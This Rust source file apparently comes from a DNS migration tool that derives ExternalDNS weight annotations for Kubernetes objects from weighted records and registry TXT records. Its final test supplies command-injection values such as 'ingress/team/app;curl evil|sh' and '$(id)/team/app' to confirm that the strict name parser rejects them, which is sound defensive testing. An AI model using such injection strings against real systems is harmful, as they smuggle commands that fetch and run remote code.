//! The weights that the annotations of Kubernetes objects have to have, so that ExternalDNS keeps those that
//! are in the zone.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::str::FromStr;

use serde::{Serialize, Serializer};

use super::lookup::registry_texts;
use super::registry_names::RegistryNames;
use crate::dns::{RecordName, SetIdentifier, SetIdentifierTemplate, Side, Sides, Zone};

/// The longest name of a Kubernetes object.
///
/// Source: Kubernetes documentation, "Object Names and IDs".
const LONGEST_NAME: usize = 253;
/// The number of annotations in a notification. With the longest names they have 20 KB; an event of EventBridge, a
/// message of SNS and the input of a state may have 256 KiB.
///
/// Sources: EventBridge User Guide, "Amazon EventBridge quotas"; SNS API Reference, `Publish`; Step Functions
/// Developer Guide, "Service quotas".
const MOST_TEXTS: usize = 20;

/// A namespaced Kubernetes object, as a registry TXT names it: `ingress/team/app`.
#[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub struct KubernetesObject {
    /// In lower case, such as `ingress`, `service`, `httproute` or, for a `DNSEndpoint`, `crd`.
    pub kind: String,
    pub namespace: String,
    pub name: String,
}

impl fmt::Display for KubernetesObject {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}/{}", self.kind, self.namespace, self.name)
    }
}

impl FromStr for KubernetesObject {
    type Err = String;

    /// Accepts only what Kubernetes does: whoever may write TXT records in the zone chooses this text, and it
    /// becomes part of commands.
    fn from_str(text: &str) -> Result<Self, String> {
        let is_permitted = |part: &str| {
            let is_character = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
            let bytes = part.as_bytes();
            (1..=LONGEST_NAME).contains(&bytes.len())
                && bytes
                    .iter()
                    .all(|byte| is_character(*byte) || matches!(byte, b'-' | b'.'))
                && [bytes.first(), bytes.last()]
                    .into_iter()
                    .flatten()
                    .all(|byte| is_character(*byte))
        };
        let parts: Vec<_> = text.split('/').collect();
        match parts[..] {
            [kind, namespace, name] if parts.iter().all(|part| is_permitted(part)) => Ok(Self {
                kind: kind.to_owned(),
                namespace: namespace.to_owned(),
                name: name.to_owned(),
            }),
            _ => Err(format!(
                "expected a kind, a namespace and a name such as ingress/team/app, found {text:?}"
            )),
        }
    }
}

impl Serialize for KubernetesObject {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

/// The weight of one Kubernetes object for its records with one set identifier.
#[derive(Clone, Debug, Eq, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Annotation {
    pub object: KubernetesObject,
    pub set_identifier: SetIdentifier,
    /// Those of its records in the zone, in ascending order. An annotation has one weight, so with several
    /// ExternalDNS will change some of the names.
    pub weights: BTreeSet<u8>,
    /// The names of these records.
    pub names: BTreeSet<RecordName>,
}

impl Annotation {
    /// The weight, if its records have the same one.
    pub fn weight(&self) -> Option<u8> {
        self.weights
            .first()
            .copied()
            .filter(|_| self.weights.len() == 1)
    }

    /// The weights for people, such as `0` or `0 or 100`.
    pub fn weights_text(&self) -> String {
        let weights: Vec<_> = self.weights.iter().map(u8::to_string).collect();
        weights.join(" or ")
    }
}

/// The annotations of each side, and what was found in place of one.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct Annotations {
    /// By object, then set identifier.
    pub of: Sides<Vec<Annotation>>,
    /// The registry TXT records that name no Kubernetes object, each with its text for the object; empty if it
    /// has none.
    pub without_object: Vec<(RecordName, String)>,
    /// The names of which a side has records without a registry TXT.
    pub without_registry: BTreeSet<RecordName>,
}

impl Annotations {
    /// Texts for a notification about the migration with this execution: the first 20 annotations, beginning with
    /// those for which no weight fits, and how to see what is left out. `sides` is what the operator calls them.
    pub fn texts(&self, execution: &str, sides: Sides<&SetIdentifierTemplate>) -> Vec<String> {
        let from = self.of.from.iter().map(|it| (it, sides.from));
        let to = self.of.to.iter().map(|it| (it, sides.to));
        let mut all: Vec<_> = from.chain(to).collect();
        all.sort_by_key(|(annotation, _)| annotation.weight().is_some());
        let mut texts = Vec::new();
        for (annotation, side) in all.iter().take(MOST_TEXTS) {
            let reason = match annotation.weight() {
                Some(_) => "",
                None => ", because its names have different weights",
            };
            let weights = annotation.weights_text();
            texts.push(format!(
                "{} of {side}: {weights}{reason}",
                annotation.object
            ));
        }
        match all.len() - texts.len() {
            0 => {}
            more => texts.push(format!("and {more} more: cutover weights {execution}")),
        }
        match self.without_object.len() {
            0 => {}
            count => texts.push(format!(
                "registry TXT records that name no Kubernetes object: {count}, see cutover weights {execution}"
            )),
        }
        texts
    }
}

/// The annotations with which ExternalDNS keeps the weights of `names` that are in the zone. `registry` has the
/// flags of each side that name its registry TXT records.
pub fn annotations<'a>(
    zone: &Zone,
    names: impl IntoIterator<Item = (&'a RecordName, &'a Sides<SetIdentifier>)>,
    registry: Sides<&RegistryNames>,
) -> Annotations {
    let mut found: Sides<BTreeMap<_, Annotation>> = Sides::default();
    let mut annotations = Annotations::default();
    for (name, identifiers) in names {
        for side in [Side::From, Side::To] {
            let identifier = identifiers.of(side);
            let texts = registry_texts(zone, name, identifier, registry.of(side));
            let mut is_registered = false;
            for text in &texts {
                let record_type = text.record_type.as_ref();
                let record = record_type
                    .and_then(|record_type| zone.weighted(name, record_type, identifier));
                // A TXT that is left of a record says nothing about those that there are.
                let Some((_, weight)) = record else { continue };
                is_registered = true;
                let object = text.resource().unwrap_or_default();
                let Ok(object) = object.parse::<KubernetesObject>() else {
                    let found = (text.read.name.clone(), object.to_owned());
                    annotations.without_object.push(found);
                    continue;
                };
                let side = match side {
                    Side::From => &mut found.from,
                    Side::To => &mut found.to,
                };
                let annotation = side
                    .entry((object.clone(), identifier.clone()))
                    .or_insert_with(|| Annotation {
                        object,
                        set_identifier: identifier.clone(),
                        weights: BTreeSet::new(),
                        names: BTreeSet::new(),
                    });
                annotation.weights.insert(weight);
                annotation.names.insert(name.clone());
            }
            if !is_registered {
                annotations.without_registry.insert(name.clone());
            }
        }
    }
    annotations.of = Sides {
        from: found.from.into_values().collect(),
        to: found.to.into_values().collect(),
    };
    annotations
}

#[cfg(test)]
mod tests {
    use expect_test::{Expect, expect};

    use super::*;
    use crate::dns::{RecordData, RecordSet, RecordType, Routing};

    /// The weight of `name`'s CNAME of blue, and its registry TXT with this text for the object.
    fn zone(records: &[(&str, u8, &str)]) -> (Zone, Vec<RecordName>) {
        let mut zone = Zone {
            id: "Z1".parse().unwrap(),
            name: "example.com".parse().unwrap(),
            record_sets: BTreeMap::new(),
        };
        let mut names = Vec::new();
        for (host, weight, object) in records {
            let mut add = |host: &str, record_type, value: String| {
                let name: RecordName = format!("{host}.example.com").parse().unwrap();
                let record_set = RecordSet {
                    name: name.clone(),
                    record_type,
                    routing: Routing::Weighted {
                        set_identifier: "blue".parse().unwrap(),
                        weight: *weight,
                    },
                    data: RecordData::Values {
                        ttl_seconds: 300,
                        values: vec![value],
                    },
                    health_check_id: None,
                    traffic_policy_instance_id: None,
                };
                zone.record_sets
                    .entry(name.clone())
                    .or_default()
                    .push(record_set);
                name
            };
            names.push(add(
                host,
                RecordType::Cname,
                "target.example.net".to_owned(),
            ));
            if !object.is_empty() {
                let text = format!(
                    "\"heritage=external-dns,external-dns/owner=blue,external-dns/resource={object}\""
                );
                add(&format!("cname-{host}"), RecordType::Txt, text);
            }
        }
        (zone, names)
    }

    #[track_caller]
    fn check(records: &[(&str, u8, &str)], expect: &Expect) {
        let (zone, names) = zone(records);
        let sides = Sides {
            from: "blue".parse().unwrap(),
            to: "green".parse().unwrap(),
        };
        let flags = RegistryNames::default();
        let registry = Sides {
            from: &flags,
            to: &flags,
        };
        let found = annotations(&zone, names.iter().map(|name| (name, &sides)), registry);
        let of_blue = found.of.from.iter();
        let mut lines: Vec<_> = of_blue
            .map(|it| serde_json::to_string(it).unwrap())
            .collect();
        let others = found.without_object.iter();
        lines.extend(others.map(|(txt, text)| format!("{txt}: {text}")));
        expect.assert_eq(&lines.join("\n"));
        // Green has no records here.
        assert!(found.of.to.is_empty());
        assert_eq!(found.without_registry.len(), names.len());
    }

    /// Annotations of blue with these weights, one for each object.
    fn annotations_with(weights: &[&[u8]]) -> Annotations {
        let annotation = |(index, weights): (usize, &&[u8])| Annotation {
            object: format!("ingress/team/app-{index}").parse().unwrap(),
            set_identifier: "blue".parse().unwrap(),
            weights: weights.iter().copied().collect(),
            names: BTreeSet::new(),
        };
        let from = weights.iter().enumerate().map(annotation).collect();
        Annotations {
            of: Sides {
                from,
                to: Vec::new(),
            },
            ..Annotations::default()
        }
    }

    fn texts(annotations: &Annotations) -> Vec<String> {
        let sides = ["*-blue", "*-green"].map(|side| side.parse().unwrap());
        let [from, to] = &sides;
        annotations.texts("run", Sides { from, to })
    }

    #[test]
    fn texts_begin_with_the_objects_for_which_no_weight_fits() {
        let mut found = annotations_with(&[&[0], &[0, 100], &[0]]);
        found.without_object = vec![("cname-a.example.com".parse().unwrap(), String::new())];
        expect![[r#"
            ingress/team/app-1 of *-blue: 0 or 100, because its names have different weights
            ingress/team/app-0 of *-blue: 0
            ingress/team/app-2 of *-blue: 0
            registry TXT records that name no Kubernetes object: 1, see cutover weights run"#]]
        .assert_eq(&texts(&found).join("\n"));
        assert_eq!(texts(&Annotations::default()), [""; 0]);
    }

    #[test]
    fn texts_are_limited() {
        let twenty = texts(&annotations_with(&[&[0][..]; 20]));
        assert_eq!(twenty.len(), 20);
        let more = texts(&annotations_with(&[&[0][..]; 23]));
        assert_eq!(more[..20], twenty);
        assert_eq!(more[20..], ["and 3 more: cutover weights run"]);
    }

    #[test]
    fn an_object_has_one_annotation_for_all_of_its_names() {
        check(
            &[
                ("a", 0, "ingress/team/app"),
                ("b", 0, "ingress/team/app"),
                ("c", 0, "service/team/app"),
            ],
            &expect![[r#"
                {"object":"ingress/team/app","setIdentifier":"blue","weights":[0],"names":["a.example.com","b.example.com"]}
                {"object":"service/team/app","setIdentifier":"blue","weights":[0],"names":["c.example.com"]}"#]],
        );
    }

    #[test]
    fn an_object_whose_names_have_different_weights_has_them_all() {
        check(
            &[("a", 0, "ingress/team/app"), ("b", 50, "ingress/team/app")],
            &expect![[
                r#"{"object":"ingress/team/app","setIdentifier":"blue","weights":[0,50],"names":["a.example.com","b.example.com"]}"#
            ]],
        );
    }

    #[test]
    fn a_text_that_is_no_object_of_kubernetes_is_told_as_it_is() {
        check(
            &[
                ("a", 0, "ingress/team/app;curl evil|sh"),
                ("b", 0, "$(id)/team/app"),
                ("c", 0, "ingress/app"),
                ("d", 0, "ingress/-team/app"),
            ],
            &expect![[r#"
                cname-a.example.com: ingress/team/app;curl evil|sh
                cname-b.example.com: $(id)/team/app
                cname-c.example.com: ingress/app
                cname-d.example.com: ingress/-team/app"#]],
        );
    }
}
